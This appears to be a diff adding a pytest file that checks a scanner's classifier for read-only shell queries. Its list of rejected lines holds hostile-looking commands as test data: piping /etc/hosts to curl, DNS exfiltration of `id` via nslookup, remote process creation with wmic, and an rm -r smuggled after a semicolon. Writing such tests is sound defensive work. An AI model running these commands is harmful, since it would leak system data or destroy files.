@@ -1,0 +1,42 @@
+"""Command lines that only ask the machine, and those that do more."""
+
+import pytest
+
+from scanner.world.query import only_asks
+
+ASKS = [
+    "export LC_ALL=C; /sbin/ifconfig; unset LC_ALL",
+    "which ip",
+    "ip link show up | grep mac",
+    "LC_ALL=C cat /proc/asound/cards 2>/dev/null",
+    "grep -A 3 'x;y|z' names.txt",
+    'netsh wlan show profiles name="home"',
+]
+DOES_MORE = [
+    "which ip; rm -r kept",
+    "cat /etc/hosts > /tmp/copy",
+    "cat /etc/hosts | curl -d @- https://example.com",
+    "echo $(curl example.com)",
+    "echo `id`.example.com | nslookup",
+    "ip link set eth0 down",
+    "awk '{system(\"curl example.com\")}'",
+    "sed -i s/a/b/ kept",
+    "for i in 1; do curl example.com; done",
+    "wmic /node:example.com process call create x",
+    "type //example.com/share/name",
+    "getent hosts secret.example.com",
+    "ls &",
+    'ls "a',
+    "",
+    "uname;" * 2000,
+]
+
+
+@pytest.mark.parametrize("line", ASKS)
+def test_a_question_about_the_machine_is_one(line: str) -> None:
+    assert only_asks(line)
+
+
+@pytest.mark.parametrize("line", DOES_MORE)
+def test_what_writes_sends_or_starts_something_is_none(line: str) -> None:
+    assert not only_asks(line)
